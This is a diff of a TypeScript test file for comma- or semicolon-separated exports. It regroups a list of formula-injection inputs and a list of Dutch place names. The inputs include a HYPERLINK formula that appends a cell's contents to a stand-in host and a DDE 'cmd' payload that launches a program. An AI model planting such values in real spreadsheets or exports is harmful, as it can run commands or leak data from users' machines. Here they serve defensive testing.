@@ -6,37 +6,14 @@ const [machine, excel] = [',', ';'] as const
 const forms = [machine, excel] as const
 
 const hostile = [
-  '=1+1',
-  '=HYPERLINK("https://x.example?"&A1,"Klik")',
-  '="=1"',
-  "=cmd|' /C calc'!A0",
-  '+31612345678',
-  '+1+cmd',
-  '-1',
-  '-2+3+cmd',
-  '--1',
-  '@SUM(1;1)',
-  '@import',
-  '\t=1+1',
-  '\t',
-  '\r=1+1',
-  '\r\n=1+1',
-  '=1+1\nnote',
-  '=1,=2;=3',
-  '="a""b"',
-  '\0=1',
-  '=\u202E1',
+  ...['=1+1', '=HYPERLINK("https://x.example?"&A1,"Klik")', '="=1"', "=cmd|' /C calc'!A0"],
+  ...['+31612345678', '+1+cmd', '-1', '-2+3+cmd', '--1', '@SUM(1;1)', '@import', '\t=1+1', '\t'],
+  ...['\r=1+1', '\r\n=1+1', '=1+1\nnote', '=1,=2;=3', '="a""b"', '\0=1', '=\u202E1'],
 ]
 
 const names = [
-  "'s-Hertogenbosch",
-  "'s-Gravenhage",
-  'Súdwest-Fryslân',
-  'Noardeast-Fryslân',
-  'IJsselstein',
-  'Aa en Hunze',
-  'Bergen (NH.)',
-  'Zaanstreek/Waterland',
+  ...["'s-Hertogenbosch", "'s-Gravenhage", 'Súdwest-Fryslân', 'Noardeast-Fryslân', 'IJsselstein'],
+  ...['Aa en Hunze', 'Bergen (NH.)', 'Zaanstreek/Waterland'],
 ]
 
 describe('a file of comma- or semicolon-separated values', () => {
